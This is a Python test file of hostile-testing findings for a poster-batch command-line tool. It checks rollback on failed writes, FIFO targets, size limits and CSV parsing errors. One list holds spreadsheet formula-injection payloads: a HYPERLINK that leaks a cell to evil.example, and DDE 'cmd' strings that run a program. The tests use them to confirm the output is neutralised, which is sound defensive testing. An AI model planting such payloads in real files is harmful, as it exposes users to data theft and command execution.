"""Findings of hostile testing of `helpsite posters`, each reproduced as a user would meet it."""

from __future__ import annotations

import csv
import io
import os
import stat

import pytest
from click.testing import CliRunner

from helpsite.cli import cli
from helpsite.posters.batch import MAX_ROWS, BatchError, Placement, placements_csv, read_rows

HEADER = "venue,placement,country,languages,format\n"


def _batch(tmp_path, rows: str, *extra: str, name: str = "posters.pdf"):
    venues = tmp_path / "venues.csv"
    venues.write_text(HEADER + rows, "utf-8")
    out = tmp_path / name
    result = CliRunner().invoke(cli, ["posters", "batch", str(venues), "--out", str(out), *extra])
    assert "Traceback" not in result.output
    return result, out


def _outputs(tmp_path) -> list[str]:
    return sorted(p.name for p in tmp_path.iterdir() if p.name != "venues.csv")


# ---------------------------------------------------------------- all or nothing


def test_a_failing_rename_leaves_nothing_written_and_says_so(tmp_path, monkeypatch):
    real_replace = os.replace

    def replace(src, dst):
        if str(dst).endswith("-placements.csv"):
            raise OSError(28, "No space left on device")
        return real_replace(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    result, _out = _batch(tmp_path, 'A,door,GB,"en",a6\n')
    assert result.exit_code == 1
    assert "nothing was written: No space left on device" in result.output
    assert _outputs(tmp_path) == []  # no PDF, no sheet, no temporary file


def test_a_failing_rename_with_force_puts_the_old_files_back(tmp_path, monkeypatch):
    first, out = _batch(tmp_path, 'A,door,GB,"en",a6\n')
    assert first.exit_code == 0, first.output
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    real_replace = os.replace

    def replace(src, dst):
        if str(dst).endswith("-placements.pdf") and str(src).endswith(".tmp"):
            raise OSError(5, "Input/output error")  # the new sheet fails; putting back works
        return real_replace(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    result, _out = _batch(tmp_path, 'B,wall,IE,"en",a6\n', "--force")
    assert result.exit_code == 1
    assert "nothing was written" in result.output
    after = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    assert after.keys() == before.keys()  # no backup or temporary file left either
    for name in ("posters.pdf", "posters-placements.csv", "posters-placements.pdf"):
        assert after[name] == before[name], name


def test_when_even_undoing_fails_the_message_says_what_is_on_disk(tmp_path, monkeypatch):
    first, _out = _batch(tmp_path, 'A,door,GB,"en",a6\n')
    assert first.exit_code == 0, first.output
    old_sheet = (tmp_path / "posters-placements.pdf").read_bytes()
    real_replace = os.replace

    def replace(src, dst):
        if str(dst).endswith("-placements.pdf"):
            raise OSError(5, "Input/output error")  # writing and putting back both fail
        return real_replace(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    result, _out = _batch(tmp_path, 'B,wall,IE,"en",a6\n', "--force")
    assert result.exit_code == 1
    assert "nothing was written" not in result.output
    assert "could not be undone: check" in result.output
    kept = [p for p in tmp_path.iterdir() if p.name.endswith(".old")]
    assert len(kept) == 1 and kept[0].read_bytes() == old_sheet
    assert str(kept[0]) in result.output.replace("\n", "")


def test_a_second_batch_never_replaces_the_first_placement_list_unasked(tmp_path):
    first, _out = _batch(tmp_path, 'A,door,GB,"en",a6\n')
    assert first.exit_code == 0, first.output
    sheet = tmp_path / "posters-placements.csv"
    record = sheet.read_bytes()
    second, _out = _batch(tmp_path, 'B,wall,GB,"en",a6\n')
    assert second.exit_code == 1
    assert "already exist" in second.output and "--force" in second.output
    assert sheet.read_bytes() == record
    forced, _out = _batch(tmp_path, 'B,wall,GB,"en",a6\n', "--force")
    assert forced.exit_code == 0, forced.output
    assert b",wall," in sheet.read_bytes()


# ---------------------------------------------------------------- where make writes


@pytest.mark.parametrize("kind", ["fifo", "link to a fifo"])
def test_make_writes_only_to_a_new_or_regular_file(tmp_path, kind):
    # A named pipe stands in for a device node such as /dev/null (never touched by tests).
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    target = pipe
    if kind == "link to a fifo":
        target = tmp_path / "poster.pdf"
        target.symlink_to(pipe)
    result = CliRunner().invoke(
        cli, ["posters", "make", "--country", "GB", "--format", "a6", "--out", str(target)]
    )
    assert result.exit_code == 1
    assert "is not a regular file" in result.output
    assert stat.S_ISFIFO(os.stat(pipe).st_mode)


def test_make_replaces_an_existing_regular_file(tmp_path):
    out = tmp_path / "poster.pdf"
    out.write_bytes(b"old")
    result = CliRunner().invoke(
        cli, ["posters", "make", "--country", "GB", "--format", "a6", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert out.read_bytes().startswith(b"%PDF")


def test_a_png_too_large_to_make_is_refused_at_once(tmp_path, monkeypatch):
    out = tmp_path / "poster.png"

    def never(*args, **kwargs):
        raise AssertionError("rendered before refusing")

    monkeypatch.setattr("qr.make.render_pdf", never)
    result = CliRunner().invoke(
        cli,
        [
            "posters",
            "make",
            "--country",
            "GB",
            "--format",
            "a3",
            "--dpi",
            "1200",
            "--out",
            str(out),
        ],
    )
    assert result.exit_code == 1
    assert "Traceback" not in result.output and "DecompressionBomb" not in result.output
    assert "rendered before refusing" not in result.output
    assert "1200 dpi on A3" in result.output and "at most 508 dpi" in result.output
    assert not out.exists()


# ---------------------------------------------------------------- formulas in the sheet

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formulas_in_venue_or_placement_reach_the_sheet_as_text(tmp_path):
    rows = io.StringIO()
    writer = csv.writer(rows)
    for formula in FORMULAS:
        writer.writerow([formula, formula, "GB", "en", "a6"])
    writer.writerow(["\t=1+1", "\r=1+1", "GB", "en", "a6"])  # leading tab and CR
    result, _out = _batch(tmp_path, rows.getvalue())
    assert result.exit_code == 0, result.output
    with open(tmp_path / "posters-placements.csv", encoding="utf-8", newline="") as handle:
        sheet = list(csv.DictReader(handle))
    assert [row["venue"] for row in sheet] == [f"'{f}" for f in FORMULAS] + ["'=1+1"]
    assert [row["placement"] for row in sheet] == [f"'{f}" for f in FORMULAS] + ["'=1+1"]
    for row in sheet:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_placement_csv_neutralises_every_formula_start(start):
    placement = Placement(
        "GB 7K2Q-9XM5", "HTTPS://X/GB7K2Q9XM5", f"{start}1", "door", "GB", "en", "a6"
    )
    cells = list(csv.reader(io.StringIO(placements_csv([placement]), newline="")))[1]
    assert cells[2] == f"'{start}1"
    assert cells[3] == "door"  # ordinary text stays as it is


# ---------------------------------------------------------------- CSV input errors


def test_an_oversized_cell_is_reported_on_its_own_row(tmp_path):
    result, out = _batch(
        tmp_path, 'A,"multi\nline door",GB,en,a6\nB,' + "x" * 200_000 + ",GB,en,a6\n"
    )
    assert result.exit_code == 1
    assert "row 3: a line longer than" in result.output
    assert "row 2:" in result.output  # the line break in row 2's placement, row 3's size
    assert not out.exists()


def test_a_bare_cr_inside_a_cell_is_reported_on_its_own_row(tmp_path):
    result, _out = _batch(tmp_path, "A,door,GB,en,a6\nB,do\ror,GB,en,a6\n")
    assert result.exit_code == 1
    assert "row 3: a line break (CR) inside a cell" in result.output
    assert "row 2" not in result.output


def test_an_unterminated_quote_is_reported_as_such(tmp_path):
    result, _out = _batch(tmp_path, 'A,door,GB,en,a6\nB,"door,GB,en,a6\nC,door,GB,en,a6\n')
    assert result.exit_code == 1
    assert 'row 3: a quote (") opens a cell that is never closed' in result.output
    assert "is not a country" not in result.output


def test_a_duplicated_header_column_is_refused(tmp_path):
    venues = tmp_path / "venues.csv"
    venues.write_text(
        "venue,placement,country,languages,format,country\nA,door,GB,en,a6,XX\n", "utf-8"
    )
    result = CliRunner().invoke(
        cli, ["posters", "batch", str(venues), "--out", str(tmp_path / "p.pdf")]
    )
    assert result.exit_code == 1
    assert "row 1: column(s) country appear more than once" in result.output


def test_a_million_row_file_is_refused_at_the_row_limit_while_reading(site):
    pulled = 0

    def lines():
        nonlocal pulled
        yield HEADER
        for n in range(1_000_000):
            pulled += 1
            yield f"Venue {n},door,GB,en,a6\n"

    with pytest.raises(BatchError) as info:
        read_rows(lines(), site.countries, site.visitor_languages)
    assert f"more than {MAX_ROWS} rows: split the file" in str(info.value)
    assert pulled <= MAX_ROWS + 1


def test_a_million_row_file_is_refused_by_the_cli(tmp_path):
    rows = "".join(f"Venue {n},door,GB,en,a6\n" for n in range(1_000_000))
    venues = tmp_path / "venues.csv"
    # Bytes that are not UTF-8 at the end: a CLI that read the whole file before counting
    # rows would stop on them instead of at the row limit.
    venues.write_bytes((HEADER + rows).encode("utf-8") + b"\xff\xfe,door,GB,en,a6\n")
    out = tmp_path / "posters.pdf"
    result = CliRunner().invoke(cli, ["posters", "batch", str(venues), "--out", str(out)])
    assert result.exit_code == 1
    assert "Traceback" not in result.output and "UTF-8" not in result.output
    assert f"more than {MAX_ROWS} rows: split the file" in result.output
    assert not out.exists()


# ---------------------------------------------------------------- the merged batch is decoded


def test_a_batch_whose_merge_misplaces_a_page_is_refused_and_not_written(tmp_path, monkeypatch):
    from qr import make, merge

    def swapped(sources, order):
        order = list(order)
        return merge.merge_pages(sources, [order[1], order[0], *order[2:]])

    monkeypatch.setattr(make, "merge_pages", swapped)
    result, out = _batch(tmp_path, 'A,door,GB,"en",a6\nB,wall,GB,"en",a5\nC,mirror,GB,"en",a6\n')
    assert result.exit_code == 1
    assert "nothing was written" in result.output and "verify-decode" in result.output
    assert _outputs(tmp_path) == []


def test_the_placement_sheet_prints_markup_in_a_venue_as_text(tmp_path):
    import pypdfium2

    from qr.pdfium import pdfium_lock

    result, _out = _batch(tmp_path, 'A,"<i>Door</i> & <b>x</b>",GB,"en",a6\n')
    assert result.exit_code == 0, result.output
    with pdfium_lock:
        document = pypdfium2.PdfDocument((tmp_path / "posters-placements.pdf").read_bytes())
        try:
            page = document[0]
            textpage = page.get_textpage()
            text = textpage.get_text_bounded()
            textpage.close()
            page.close()
        finally:
            document.close()
    assert "<i>Door</i> & <b>x</b>" in text.replace("\r\n", " ").replace("\n", " ")
